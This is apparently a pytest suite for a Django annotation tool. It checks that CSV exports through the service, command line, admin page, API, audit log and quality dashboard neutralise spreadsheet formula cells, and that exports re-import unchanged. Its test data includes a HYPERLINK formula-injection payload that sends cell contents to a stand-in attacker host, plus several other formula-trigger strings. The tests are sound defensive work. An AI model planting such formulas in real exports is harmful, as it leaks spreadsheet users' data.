"""Every CSV Docket writes (document exports through the service, the command line, the admin page and the
API; the audit log; the quality dashboard's tables) neutralises cells a spreadsheet would run as formulas,
and a document export still re-imports unchanged."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from annotation.models import Document
from annotation.services.audit import audit_record
from annotation.services.exports import export_stream
from annotation.services.imports import ImportOptions, import_batch_create, import_batch_run
from annotation.spreadsheet_cells import cell_for_spreadsheet, cell_from_spreadsheet
from tests.api.conftest import client_with, personal_key
from tests.factories import MembershipFactory, UserFactory, project_with_labels

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rother"]


@pytest.mark.parametrize("text", [*FORMULAS, "'=already quoted", "''+twice"])
def test_a_formula_cell_is_written_as_text_and_read_back_as_it_was(text):
    written = cell_for_spreadsheet(text)
    assert written.startswith("'")
    assert cell_from_spreadsheet(written) == text


@pytest.mark.parametrize("text", ["Plain text.", "'quoted but harmless", "", "a=b"])
def test_other_cells_are_left_alone(text):
    assert cell_for_spreadsheet(text) == text
    assert cell_from_spreadsheet(text) == text


def test_numbers_are_not_text_and_stay_numbers():
    assert cell_for_spreadsheet(-3) == -3


@pytest.fixture
def risky_project():
    project = project_with_labels(name="Risky")
    rows = [{"id": f"=id{i}", "text": text, "team": "@legal"} for i, text in enumerate(FORMULAS)]
    batch = import_batch_create(project=project, file_name="in.jsonl", options=ImportOptions())
    content = "".join(json.dumps(row) + "\n" for row in rows)
    import_batch_run(batch=batch, stream=io.BytesIO(content.encode("utf-8")))
    assert batch.created_count == len(FORMULAS)
    return project


def cells(csv_text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]


def assert_no_formula(csv_text: str) -> None:
    runnable = [cell for cell in cells(csv_text) if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not runnable, runnable


def test_document_export_neutralises_text_ids_and_metadata(risky_project):
    exported = "".join(export_stream(risky_project, "csv"))
    assert_no_formula(exported)
    assert "'=HYPERLINK(" in exported and "'=id0" in exported


def test_csv_export_of_formulas_reimports_unchanged(risky_project):
    exported = "".join(export_stream(risky_project, "csv"))
    copy = project_with_labels(name="Copy")
    batch = import_batch_create(project=copy, file_name="export.csv", options=ImportOptions())
    import_batch_run(batch=batch, stream=io.BytesIO(exported.encode("utf-8")))
    original = sorted(Document.objects.filter(project=risky_project).values_list("external_id", "text"))
    assert sorted(Document.objects.filter(project=copy).values_list("external_id", "text")) == original


def test_command_line_export_neutralises(risky_project, tmp_path):
    out = tmp_path / "out.csv"
    call_command("export_documents", str(risky_project.pk), "--format", "csv", "--output", str(out))
    assert_no_formula(out.read_text(encoding="utf-8"))


def test_admin_page_export_neutralises(risky_project, client):
    staff = UserFactory(is_staff=True)
    MembershipFactory(project=risky_project, user=staff, role="admin")
    client.force_login(staff)
    response = client.get(reverse("admin:annotation_project_export", args=[risky_project.pk, "csv"]))
    assert response.status_code == 200
    assert_no_formula(b"".join(response.streaming_content).decode())


def test_api_export_neutralises(risky_project):
    admin = UserFactory()
    MembershipFactory(project=risky_project, user=admin, role="admin")
    api = client_with(personal_key(admin, [risky_project]))
    response = api.get(f"/api/v1/projects/{risky_project.pk}/annotations/export?format=csv")
    assert response.status_code == 200
    assert_no_formula(b"".join(response.streaming_content).decode())


def test_audit_export_neutralises_an_actor_name(risky_project, client):
    admin = UserFactory(username="-2+3")
    MembershipFactory(project=risky_project, user=admin, role="admin")
    audit_record(action="export.documents", actor=admin, project=risky_project, after={"format": "csv"})
    client.force_login(admin)
    response = client.get(reverse("manage:audit-export", args=[risky_project.pk, "csv"]))
    exported = b"".join(response.streaming_content).decode()
    assert "'-2+3" in exported
    assert_no_formula(exported)


def test_quality_dashboard_table_neutralises_metadata_values(client):
    project = project_with_labels(name="Dashboard")
    admin = UserFactory()
    MembershipFactory(project=project, user=admin, role="admin")
    from annotation.services.labeling import annotation_submit
    from tests.factories import DocumentFactory

    reviewer = UserFactory()
    MembershipFactory(project=project, user=reviewer, role="reviewer")
    for value in ("=1+1", "@cmd"):
        document = DocumentFactory(project=project, metadata={"product": value})
        annotation_submit(reviewer=reviewer, document=document, label_keys=["first_party"])
    client.force_login(admin)
    response = client.get(f"/projects/{project.pk}/quality/?field=product&csv=field")
    text = response.content.decode()
    assert "'=1+1" in text and "'@cmd" in text
    assert_no_formula(text)
